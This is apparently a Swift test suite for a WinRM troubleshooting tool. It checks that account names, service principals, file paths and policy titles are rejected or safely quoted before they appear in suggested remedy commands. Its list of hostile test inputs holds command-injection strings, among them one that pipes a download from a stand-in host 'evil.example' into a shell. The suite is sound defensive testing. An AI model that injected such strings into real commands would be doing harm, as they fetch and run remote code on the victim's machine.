import SecuritySupport
import Testing
import WSMan
import WinRM

@testable import WinRMDoctor

/// What would be carried out, or would be a switch, if it stood in a command.
let hostileNames = [
  "alice; curl http://evil.example|sh", "LAB\\alice; curl http://evil.example|sh", "alice\nevil", "alice`evil`", "$(evil)", "a'evil'",
  "a\"evil\"", "alice evil", "-evil", "LAB\\-evil", "evil;\\alice", "alice@LAB;evil", "alice@evil@LAB", "a\\b\\evil", "alice>evil", "evil&",
  "alic\u{435}evil", "evil\u{202E}", "evil\0", "evil\\", "@evil", "evil" + String(repeating: "x", count: 300), "evil%PATH%", "evil!x",
]

@Suite("Names of others in commands")
struct CommandWordTests {
  @Test(arguments: [
    ("alice", "alice"), ("LAB\\alice", "alice"), ("alice@LAB.EXAMPLE", "alice"), ("a.b_c-1", "a.b_c-1"), ("LAB-1.x\\SVC_1", "SVC_1"),
  ])
  func names(name: String, word: String) { #expect(CommandWord.account(name) == word) }

  @Test(arguments: hostileNames + [""]) func noNames(name: String) { #expect(CommandWord.account(name) == nil) }

  @Test func services() {
    for name in ["WSMAN/hop1", "HTTP/hop1.lab.example:5985@LAB.EXAMPLE", "WSMAN/[fe80::1]"] { #expect(CommandWord.service(name) == name) }
    for name in ["", "-Q", "WSMAN/hop1; evil", "WSMAN/$(evil)", "WSMAN/a b", "WSMAN/ä", String(repeating: "a", count: 301)] {
      #expect(CommandWord.service(name) == nil)
    }
  }

  @Test func quotes() {
    #expect(CommandWord.quoted("//hop2/data") == "//hop2/data")
    #expect(CommandWord.quoted("//hop2/adm$n") == "'//hop2/adm$n'")
    #expect(CommandWord.quoted("a'b") == #"'a'\''b'"#)
    #expect(CommandWord.quoted("") == "''")
    // To Swift, a quote and its accent are one character that is no quote.
    #expect(Array(CommandWord.quoted("a'\u{301};b").utf8) == Array("'a'\\''\u{301};b'".utf8))
  }

  @Test func namesOfThisMachine() {
    for (name, word) in [
      ("alice", "alice"), ("LAB\\alice", #"'LAB\alice'"#), ("$(evil)", "'$(evil)'"), ("x';evil", #"'x'\'';evil'"#),
      ("a b", "'a b'"), ("Jürgen", "'Jürgen'"), ("~root", "'~root'"), ("`evil`", "'`evil`'"),
    ] { #expect(CommandWord.argument(name, or: "NAME") == word) }
    for name in ["", "-evil", "/evil", "a\nevil", "a\u{1B}[2Jevil", "a\u{202E}evil", "a\u{2028}evil", "a\0", "a\u{200B}"] {
      #expect(CommandWord.argument(name, or: "NAME") == "NAME")
    }
  }

  @Test func filesOfThisMachine() {
    #expect(CommandWord.path("/etc/winrm/config.json") == "/etc/winrm/config.json")
    #expect(CommandWord.path("/a b/it's/$(evil)") == #"'/a b/it'\''s/$(evil)'"#)
    #expect(CommandWord.path("-r/etc") == "./-r/etc")
    #expect(CommandWord.path("/a\nb") == "FILE")
  }

  @Test func titlesOfPolicyObjects() {
    func remedy(_ object: String) -> String {
      DecidingValue(name: "n", value: "v", object: object, key: "k", file: "f", isOfDomain: true).remedy("set n to 1")
    }
    #expect(
      remedy("Zentrale (Büro) {1-2}") == "set n to 1 in the policy object Zentrale (Büro) {1-2} of the domain, then: winrm policy update")
    for name in ["x; evil", "x|evil", "`evil`", "x\nevil", "$(evil)"] { #expect(!remedy(name).contains("evil")) }
  }
}

@Suite("Remedies with names of others")
struct HostileRemedyTests {
  private static let codes: [WinRMCode?] =
    [
      .serverNotTrusted, .explicitCredentialsRequired, .defaultMethodToAddress, .negotiateDisabled, .kerberosDisabled,
      .credSSPDisabledOnClient, .unencryptedDisabled, .noCredentials, .kerberosToAddress, .nameNotResolved, .destinationUnreachable,
      .networkTimedOut, .sslConnectionAborted, .mutualAuthenticationFailed, .targetUnknown, .noAuthenticatingAuthority, .timeSkew,
      .encryptionTypeUnsupported, .quotaMaxShells, .quotaMaxShellUsers, .quotaMaxCommandsPerShell, .quotaMaxOperations,
      .remoteShellsNotAllowed, .resourceNotFound, .wrongPrincipal, .badBindings, .logonFailure, .logonDenied, .accountDisabled,
      .accountLockedOut, .accountExpired, .accountRestriction, .passwordExpired, .passwordMustChange, .accessDenied, .httpNotFound, nil,
    ] + [0x8033_81AB, 0x8033_81AC, 0x8033_81DD].map { WinRMCode(rawValue: $0) }
  private static let stages: [WinRMError.Stage?] = [
    .policy, .local, .resolve, .kerberos, .proxy, .connect, .tls, .authenticate, .delegate, .request, .shell, nil,
  ]

  private func names(_ account: String, _ target: String, hasTicket: Bool) throws -> SecondHopNames {
    SecondHopNames(first: "hop1", second: try #require(SecondHopTarget(parsing: target)), account: account, hasTicket: hasTicket)
  }

  private func ofService(_ account: String, hostile text: String) throws -> [String] {
    var remedies: [String] = []
    for hasTicket in [true, false] {
      let names = try names(account, "http://hop2:5985", hasTicket: hasTicket)
      for code in Self.codes {
        for stage in Self.stages {
          for cause in [text, "neither with his ticket nor otherwise, \(text)"] {
            var lines = ["Winrs error:\(cause)"]
            if let stage { lines.append("Stage: \(stage.rawValue) with \(text)") }
            lines += ["Answer of the server: \(text)", "Next: \(text)", "Error number: 1 \(code?.hexadecimal ?? text)"]
            var values = ["winrm.exit": "255"]
            for (index, line) in lines.enumerated() { values["winrm.said.\(index + 1)"] = line }
            let reply = try #require(SecondHopReply("winrm", in: values))
            let failure = try #require(WinrsFailure(reply))
            remedies.append(SecondHopVerdict(failure, tried: "winrs -r:http://hop2:5985 id", names).remedy)
          }
        }
      }
    }
    return remedies
  }

  private func ofFiles(_ account: String, hostile text: String) throws -> [String] {
    let says = [
      "NT_STATUS_BAD_NETWORK_NAME", "NT_STATUS_ACCESS_DENIED", "session setup failed: NT_STATUS_ACCESS_DENIED", "NT_STATUS_LOGON_FAILURE",
      "NT_STATUS_IO_TIMEOUT", "NEG_TOKEN_INIT NT_STATUS_INVALID_PARAMETER", "NT_STATUS_NO_LOGON_SERVERS", "NT_STATUS_\(text)",
      "System error 5", "System error 53", "System error 67", "System error 1326", "Connection to", "",
    ]
    return try says.flatMap { said in
      try [true, false].map { hasTicket in
        let values = ["smb.exit": "1", "smb.said.1": "\(text) \(said)", "cifs.exit": "1", "cifs.said.1": text]
        let reply = try #require(SecondHopReply("smb", in: values))
        let failure = try #require(FileServerFailure(reply))
        return SecondHopVerdict(
          failure, ticket: SecondHopReply("cifs", in: values), try names(account, "//hop2/secret", hasTicket: hasTicket)
        ).remedy
      }
    }
  }

  @Test("No branch hands on what is no name", arguments: hostileNames) func hostile(name: String) throws {
    let remedies = try ofService(name, hostile: name) + ofFiles(name, hostile: name)
    #expect(remedies.allSatisfy { !$0.contains("evil") && !$0.contains("curl") }, "\(remedies.first { $0.contains("evil") } ?? "")")
    #expect(remedies.contains { $0.contains("winrm account add USER -unixuser:USER;") })
    #expect(remedies.contains { $0.contains("winrm account enable USER)") })
    #expect(remedies.contains { $0.contains(#"AllowedAccounts="USER""#) })
    #expect(remedies.contains { $0.contains(#""Remote Management Users" USER /add"#) })
    #expect(remedies.contains { $0.contains("smbclient -U USER //hop2/secret") })
  }

  @Test func harmlessNamesStayInTheCommands() throws {
    let remedies = try ofService("LAB\\alice", hostile: "x") + ofFiles("alice@LAB.EXAMPLE", hostile: "x")
    for command in [
      "winrm account add alice -unixuser:USER;", "winrm account enable alice)", #"AllowedAccounts="alice""#,
      #""Remote Management Users" alice /add"#,
      "smbclient -U alice //hop2/secret",
    ] {
      #expect(remedies.contains { $0.contains(command) }, "\(command)")
    }
  }

  @Test func theRemediesOfTheFirstHop() {
    for name in hostileNames {
      for isWindows in [true, false] {
        let remedies = ServerRemedies(server: "the server", host: "hop1", isWindows: isWindows, user: name)
        let all = Self.codes.compactMap { $0.flatMap(remedies.shell) } + [remedies.keys(of: "WSMAN/\(name)evil;")]
        #expect(all.allSatisfy { !$0.contains("evil") })
      }
    }
  }
}
